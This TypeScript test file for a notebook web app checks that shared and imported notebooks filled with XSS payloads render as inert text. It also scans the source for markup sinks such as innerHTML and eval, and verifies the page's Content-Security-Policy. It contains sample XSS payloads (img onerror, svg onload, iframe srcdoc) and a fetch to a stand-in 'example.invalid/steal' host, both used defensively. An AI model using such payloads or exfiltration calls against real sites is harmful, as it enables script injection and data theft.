import { readdir, readFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { useAppSession } from './app-session';
import { waitForIdle } from './browser';
import {
  type AttackProbe,
  armProbe,
  canary,
  hostileNotebook,
  injectedMarkup,
  PAYLOADS,
  readableText,
  refusedNotebook,
  shareFragment,
} from './hostile-content';
import { importNotebookFile, loadUrl } from './notebook-actions';
import { DIST_DIR } from './serve-dist';
import { alertTexts, typeValue, weightInput } from './ui-actions';

// Shared content is data, never code (issue 6). Notebooks whose every text field carries the usual XSS
// payloads arrive by share link (on a first visit and later) and by file import, and are rendered in real
// Chromium. The first block turns the page's Content-Security-Policy off, so it proves the app itself
// never turns text into markup or fetches what a note points at; the second proves the policy stops what
// a rendering bug would let through.

const TITLE = `<img src=x onerror="window.__pwned='title'"><script>window.__pwned='title'</script>`;

/** Asserts that nothing ran, no markup was created, and every payload is on screen as plain text. */
async function expectRenderedAsText(page: Page, probe: AttackProbe, title: string): Promise<void> {
  expect(probe.dialogs).toEqual([]);
  expect(await canary(page)).toBeUndefined();
  expect(await injectedMarkup(page)).toEqual([]);
  const text = await readableText(page);
  expect(text).toContain(title);
  for (const payload of PAYLOADS) expect(text).toContain(payload);
}

function offOrigin(requests: readonly string[], origin: string): string[] {
  return requests.filter(
    (url) => !url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:'),
  );
}

describe('hostile notebooks, with the page policy switched off', () => {
  let probe: AttackProbe;
  const session = useAppSession({
    open: false,
    async prepare({ context, page }) {
      probe = await armProbe(page);
      const devtools = await context.newCDPSession(page);
      await devtools.send('Page.setBypassCSP', { enabled: true });
    },
  });

  it('renders a share link opened on the first visit as text and runs nothing', async () => {
    const { page, server } = session;
    await loadUrl(page, `${server.url}${shareFragment(hostileNotebook(TITLE))}`);
    expect(await alertTexts(page)).toEqual([]);
    await expectRenderedAsText(page, probe, TITLE);
  });

  it('renders a share link opened later, over a saved notebook, the same way', async () => {
    const { page, server } = session;
    const title = `"><svg onload="window.__pwned='later'">`;
    await loadUrl(page, `${server.url}${shareFragment(hostileNotebook(title))}`);
    await expectRenderedAsText(page, probe, title);
  });

  it('renders an imported file as text and runs nothing', async () => {
    const { page } = session;
    const title = `<iframe srcdoc="<script>parent.__pwned='file'</script>">`;
    await importNotebookFile(page, 'hostile.convbook.json', JSON.stringify(hostileNotebook(title)));
    await expect.poll(async () => (await readableText(page)).includes(title), { timeout: 10_000 }).toBe(true);
    await waitForIdle(page);
    await expectRenderedAsText(page, probe, title);
  });

  it('quotes payloads that validation refuses as text in the message', async () => {
    const { page, server } = session;
    await loadUrl(page, `${server.url}${shareFragment(refusedNotebook())}`);
    // Messages quote a value shortened (with …) and in JSON string form, so look for the opening of each.
    await expect
      .poll(async () => (await alertTexts(page)).join('\n'), { timeout: 5_000 })
      .toMatch(/got "<img src=x onerror=/);
    const message = (await alertTexts(page)).join('\n');
    expect(message).toContain(`got "<script>window.__pwned='script'</script>"`);
    expect(message).toContain('got "<svg onload=');
    expect(message).toContain('unknown kind "\\"><iframe srcdoc=');
    expect(probe.dialogs).toEqual([]);
    expect(await canary(page)).toBeUndefined();
    expect(await injectedMarkup(page)).toEqual([]);
  });

  it('fetched nothing from any other origin while opening them', () => {
    expect(probe.requests.length).toBeGreaterThan(0);
    expect(offOrigin(probe.requests, session.server.url)).toEqual([]);
  });

  // Runs last: it plants the very markup the tests above look for, to show the probes would catch it.
  it('catches markup that does get in (the probes can fail)', async () => {
    const { page } = session;
    await page.evaluate((payload) => {
      const host = document.querySelector('cb-app');
      const target = host?.shadowRoot?.querySelector('main') ?? document.body;
      target.insertAdjacentHTML('beforeend', payload);
    }, `${PAYLOADS[1]}<img src="http://example.invalid/planted.png">`);
    await expect.poll(() => canary(page), { timeout: 5_000 }).toBe('img');
    expect(await injectedMarkup(page)).toEqual(['<img> in cb-app', 'img[onerror]', '<img> in cb-app']);
    await expect
      .poll(() => offOrigin(probe.requests, session.server.url), { timeout: 5_000 })
      .toEqual(['http://example.invalid/planted.png']);
  });
});

/**
 * The ways a browser app turns a string into markup or code. The app uses none, so no future text field
 * can become a way in without a test turning red here first.
 */
const MARKUP_SINKS =
  /\b(unsafeHTML|unsafeSVG|unsafeStatic|innerHTML|outerHTML|insertAdjacentHTML|srcdoc|createContextualFragment)\b|document\.write|new Function\(|\beval\(/;

async function sourceFiles(folder: string): Promise<string[]> {
  const entries = await readdir(folder, { withFileTypes: true, recursive: true });
  return entries
    .filter(
      (entry) => entry.isFile() && /\.ts$/.test(entry.name) && !/\.test(-helper)?\.ts$/.test(entry.name),
    )
    .map((entry) => join(entry.parentPath, entry.name));
}

describe('the source of the app', () => {
  it('has no call that turns a string into markup or code', async () => {
    const root = fileURLToPath(new URL('../../packages', import.meta.url));
    const offenders: string[] = [];
    let scanned = 0;
    for (const pkg of ['core', 'cells', 'ui']) {
      for (const file of await sourceFiles(join(root, pkg, 'src'))) {
        scanned++;
        const lines = (await readFile(file, 'utf8')).split('\n');
        lines.forEach((line, index) => {
          if (MARKUP_SINKS.test(line)) offenders.push(`${relative(root, file)}:${index + 1}: ${line.trim()}`);
        });
      }
    }
    expect(scanned).toBeGreaterThan(100);
    expect(offenders).toEqual([]);
  });
});

describe('the Content-Security-Policy of the built site', () => {
  const session = useAppSession({
    async prepare({ page }) {
      await page.addInitScript(() => {
        const seen: string[] = [];
        Object.defineProperty(window, '__violations', { value: seen });
        document.addEventListener('securitypolicyviolation', (event) => {
          seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
        });
      });
    },
  });

  const violations = (page: Page) =>
    page.evaluate(() => [...(window as unknown as { __violations: string[] }).__violations]);

  it('is the first thing in <head>, and allows no inline script, eval or other host', async () => {
    const html = await readFile(join(DIST_DIR, 'index.html'), 'utf8');
    const head = html.slice(html.indexOf('<head>') + 6).trimStart();
    expect(head.startsWith('<meta http-equiv="Content-Security-Policy"')).toBe(true);
    const policy = (head.match(/content="([^"]*)"/)?.[1] ?? '').replaceAll('&#39;', "'");
    const directives = new Map(
      policy.split(';').map((part) => {
        const [name = '', ...sources] = part.trim().split(/\s+/);
        return [name, sources] as const;
      }),
    );
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    expect(policy).not.toMatch(/https?:|\*|'unsafe-eval'/);
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/); // no inline script in the page
  });

  it('lets the app run and compute without a single violation', async () => {
    const { page } = session;
    expect(await page.locator('cb-cell').count()).toBeGreaterThan(10);
    expect(await page.locator('cb-cell[data-status="error"]').count()).toBe(0);
    const input = weightInput(page.locator('cb-cell[data-cell-id="sobelX"]'), 1, 1);
    await typeValue(page, input, Number(await input.inputValue()) + 1);
    await waitForIdle(page);
    expect(await violations(page)).toEqual([]);
    expect(session.pageErrors.filter((line) => line.includes('Content Security Policy'))).toEqual([]);
  });

  it('blocks an inline script, an inline handler, eval and a request to another host', async () => {
    const { page } = session;
    const outcome = await page.evaluate(async () => {
      const flags = window as unknown as Record<string, unknown>;
      const script = document.createElement('script');
      script.textContent = 'window.inlineRan = true';
      document.body.append(script);
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.handlerRan = true');
      document.body.append(button);
      button.click();
      // A string timer is eval in disguise; it runs later as a page task, outside DevTools' evaluation.
      const timer: (code: string, ms: number) => number = window.setTimeout as never;
      timer('window.timerRan = true', 0);
      const fetched = await fetch('http://example.invalid/steal').then(
        () => 'fetched',
        () => 'blocked',
      );
      await new Promise((done) => setTimeout(done, 100)); // violation events are queued as tasks
      return { inline: flags.inlineRan, handler: flags.handlerRan, timer: flags.timerRan, fetched };
    });
    expect(outcome).toEqual({
      inline: undefined,
      handler: undefined,
      timer: undefined,
      fetched: 'blocked',
    });
    const seen = await violations(page);
    expect(seen).toEqual(
      expect.arrayContaining([
        'script-src-elem inline',
        'script-src-attr inline',
        'script-src eval',
        'connect-src http://example.invalid/steal',
      ]),
    );
  });
});
